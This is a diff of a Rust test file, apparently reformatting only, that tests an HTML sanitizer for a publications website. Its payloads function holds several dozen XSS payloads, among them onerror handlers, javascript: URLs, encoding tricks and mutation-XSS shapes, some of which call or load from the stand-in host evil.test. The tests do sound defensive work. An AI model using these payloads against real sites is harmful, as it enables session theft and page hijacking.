@@ -46,7 +46,8 @@ pub(super) fn blank() -> Publication {
 /// A work with the same text in every field that takes one.
 fn filled(text: &str) -> Publication {
     let name = || text.chars().take(60).collect::<String>();
-    let section = |heading: &str, text: String| Section { role: 1, heading: heading.into(), text, language: None };
+    let section =
+        |heading: &str, text: String| Section { role: 1, heading: heading.into(), text, language: None };
     let details = PracticeDetails {
         maturity: 2,
         key_dates: vec![KeyDate { date: Day(20_240_101), text: text.into() }],
@@ -75,8 +76,14 @@ fn filled(text: &str) -> Publication {
         plain_summary: Some(PlainSummary { language: "ar".into(), text: text.into() }),
         sections: vec![
             section(&name(), text.into()),
-            section("Markdown", format!("[a]({text}) ![b]({text}) <{text}>\n\n```{text}\n{text}\n```\n\n# {text}\n")),
-            section("Reference", format!("[c]\n\n[c]: {text}\n\n| {text} | b |\n|---|---|\n| {text} | d |\n")),
+            section(
+                "Markdown",
+                format!("[a]({text}) ![b]({text}) <{text}>\n\n```{text}\n{text}\n```\n\n# {text}\n"),
+            ),
+            section(
+                "Reference",
+                format!("[c]\n\n[c]: {text}\n\n| {text} | b |\n|---|---|\n| {text} | d |\n"),
+            ),
         ],
         keywords: vec![name()],
         territory: Territory { name: name(), region: name(), ..Territory::default() },
@@ -106,26 +113,74 @@ fn filled(text: &str) -> Publication {
 /// Ways to write a script where none belongs.
 fn payloads() -> Vec<String> {
     let scripts = [
-        "alert(1)", "top['al'+'ert'](1)", "fetch('//evil.test')", "location='//evil.test'", "eval(name)", "`${alert(1)}`",
+        "alert(1)",
+        "top['al'+'ert'](1)",
+        "fetch('//evil.test')",
+        "location='//evil.test'",
+        "eval(name)",
+        "`${alert(1)}`",
     ];
     let shapes = [
-        "<script>{}</script>", "<ScRiPt src=//evil.test></sCrIpT>", "<img src=x onerror={}>", "<svg onload={}>",
-        "<svg><script>{}</script></svg>", "<math><mtext></p><img src=x onerror={}>", "\"><script>{}</script>",
-        "'><img src=x onerror={}>", "\" onmouseover=\"{}", "' autofocus onfocus='{}", "javascript:{}",
-        "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "&#106;avascript:{}", "&#x6A;avascript:{}",
-        "%6aavascript:{}", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:{}",
-        "<a href=javascript:{}>a</a>", "<iframe src=javascript:{}></iframe>", "<iframe srcdoc='<script>{}</script>'>",
-        "<object data=javascript:{}>", "<embed src=javascript:{}>", "<form action=javascript:{}><button>",
-        "<input onfocus={} autofocus>", "<body onload={}>", "<base href=//evil.test>", "<link rel=stylesheet href=//evil.test>",
-        "<meta http-equiv=refresh content=0;url=//evil.test>", "<style>@import'//evil.test'</style>",
-        "<details open ontoggle={}>", "<video><source onerror={}></video>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
-        "<template><script>{}</script></template>", "<!--<img src=\"--><img src=x onerror={}>\">", "<![CDATA[<script>{}</script>]]>",
-        "</title><script>{}</script>", "</textarea><script>{}</script>", "</script><script>{}</script>",
-        "<svg><a xlink:href=javascript:{}><text>a</text></a></svg>", "<svg><animate onbegin={} attributeName=x>",
-        "<svg></p><style><a id=\"</style><img src=x onerror={}>\">", "<mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
-        "[a](javascript:{})", "[a](data:text/html,{})", "![a](x\" onerror=\"{})", "<javascript:{}>", "[a]: javascript:{}",
-        "[a](&#106;avascript:{})", "[a](java&Tab;script:{})", "[a](//evil.test)", "{{7*7}}{}", "{% raw %}{}", "\u{202e}{}\u{202c}",
-        "\u{0}<script>{}</script>", "<scr\u{0}ipt>{}</script>", "\u{fe64}script\u{fe65}{}", "＜script＞{}＜/script＞",
+        "<script>{}</script>",
+        "<ScRiPt src=//evil.test></sCrIpT>",
+        "<img src=x onerror={}>",
+        "<svg onload={}>",
+        "<svg><script>{}</script></svg>",
+        "<math><mtext></p><img src=x onerror={}>",
+        "\"><script>{}</script>",
+        "'><img src=x onerror={}>",
+        "\" onmouseover=\"{}",
+        "' autofocus onfocus='{}",
+        "javascript:{}",
+        "JaVaScRiPt:{}",
+        "java\tscript:{}",
+        "java\nscript:{}",
+        "&#106;avascript:{}",
+        "&#x6A;avascript:{}",
+        "%6aavascript:{}",
+        "data:text/html,<script>{}</script>",
+        "data:text/html;base64,PHNjcmlwdD4=",
+        "vbscript:{}",
+        "<a href=javascript:{}>a</a>",
+        "<iframe src=javascript:{}></iframe>",
+        "<iframe srcdoc='<script>{}</script>'>",
+        "<object data=javascript:{}>",
+        "<embed src=javascript:{}>",
+        "<form action=javascript:{}><button>",
+        "<input onfocus={} autofocus>",
+        "<body onload={}>",
+        "<base href=//evil.test>",
+        "<link rel=stylesheet href=//evil.test>",
+        "<meta http-equiv=refresh content=0;url=//evil.test>",
+        "<style>@import'//evil.test'</style>",
+        "<details open ontoggle={}>",
+        "<video><source onerror={}></video>",
+        "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
+        "<template><script>{}</script></template>",
+        "<!--<img src=\"--><img src=x onerror={}>\">",
+        "<![CDATA[<script>{}</script>]]>",
+        "</title><script>{}</script>",
+        "</textarea><script>{}</script>",
+        "</script><script>{}</script>",
+        "<svg><a xlink:href=javascript:{}><text>a</text></a></svg>",
+        "<svg><animate onbegin={} attributeName=x>",
+        "<svg></p><style><a id=\"</style><img src=x onerror={}>\">",
+        "<mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
+        "[a](javascript:{})",
+        "[a](data:text/html,{})",
+        "![a](x\" onerror=\"{})",
+        "<javascript:{}>",
+        "[a]: javascript:{}",
+        "[a](&#106;avascript:{})",
+        "[a](java&Tab;script:{})",
+        "[a](//evil.test)",
+        "{{7*7}}{}",
+        "{% raw %}{}",
+        "\u{202e}{}\u{202c}",
+        "\u{0}<script>{}</script>",
+        "<scr\u{0}ipt>{}</script>",
+        "\u{fe64}script\u{fe65}{}",
+        "＜script＞{}＜/script＞",
     ];
     let mut all = Vec::new();
     for (at, shape) in shapes.iter().enumerate() {
@@ -152,10 +207,14 @@ fn assert_calm(html: &Html, what: &str) {
         assert!(own_title || ELEMENTS.split_whitespace().any(|one| one == name), "{what}: <{name}>");
         for (attribute, value) in element.attrs() {
             assert!(!attribute.starts_with("on"), "{what}: {attribute} of <{name}>");
-            assert!(!matches!(attribute, "style" | "srcdoc" | "formaction" | "xlink:href" | "background"), "{what}: {attribute}");
+            assert!(
+                !matches!(attribute, "style" | "srcdoc" | "formaction" | "xlink:href" | "background"),
+                "{what}: {attribute}"
+            );
             if matches!(attribute, "href" | "src" | "action") {
                 let local = value.starts_with('/') && !value.starts_with("//") || value.starts_with('#');
-                let web = name == "a" && ["http://", "https://", "mailto:"].iter().any(|one| value.starts_with(one));
+                let web = name == "a"
+                    && ["http://", "https://", "mailto:"].iter().any(|one| value.starts_with(one));
                 let vocabulary = name == "link" && value == "http://purl.org/dc/elements/1.1/";
                 assert!(local || web || vocabulary, "{what}: {attribute}={value:?} of <{name}>");
             }
@@ -203,9 +262,13 @@ fn no_payload_in_an_address_becomes_more_than_text() {
     for payload in payloads() {
         let asked: String = form_urlencoded::byte_serialize(payload.as_bytes()).collect();
         for path in [
-            format!("/?q={asked}"), format!("/?kind={asked}&region={asked}&without={asked}"),
-            format!("/town?return={asked}"), format!("/resources?place={asked}"), format!("/?lang={asked}&q={asked}"),
-            format!("/w/{asked}"), format!("/compare?w={asked}"),
+            format!("/?q={asked}"),
+            format!("/?kind={asked}&region={asked}&without={asked}"),
+            format!("/town?return={asked}"),
+            format!("/resources?place={asked}"),
+            format!("/?lang={asked}&q={asked}"),
+            format!("/w/{asked}"),
+            format!("/compare?w={asked}"),
         ] {
             let answer = get(&path);
             assert!(!answer.status.is_server_error(), "{path}");
@@ -228,7 +291,13 @@ fn broken_and_huge_works_show_a_calm_page() {
         with("[".repeat(50_000) + &"](".repeat(50_000)),
         Publication { kind: 99, title: "Of a newer kind".into(), ..blank() },
         Publication { details: vec![255; 64], title: "With details nobody knows".into(), ..blank() },
-        Publication { language: "x-unknown".into(), licence: 999, areas: vec![77], title: "Codes".into(), ..blank() },
+        Publication {
+            language: "x-unknown".into(),
+            licence: 999,
+            areas: vec![77],
+            title: "Codes".into(),
+            ..blank()
+        },
     ];
     for work in &works {
         let begun = std::time::Instant::now();
@@ -243,7 +312,14 @@ fn broken_and_huge_works_show_a_calm_page() {
 
 #[test]
 fn questions_that_are_too_much_are_answered() {
-    for query in ["a+".repeat(500), "%22".repeat(300), "(".repeat(400), "%F0%9F%8F%A0".repeat(100), "-".repeat(512), "*".into()] {
+    for query in [
+        "a+".repeat(500),
+        "%22".repeat(300),
+        "(".repeat(400),
+        "%F0%9F%8F%A0".repeat(100),
+        "-".repeat(512),
+        "*".into(),
+    ] {
         let status = get(&format!("/?q={query}")).status;
         assert!(matches!(status, StatusCode::OK | StatusCode::SERVICE_UNAVAILABLE), "{query}: {status}");
     }
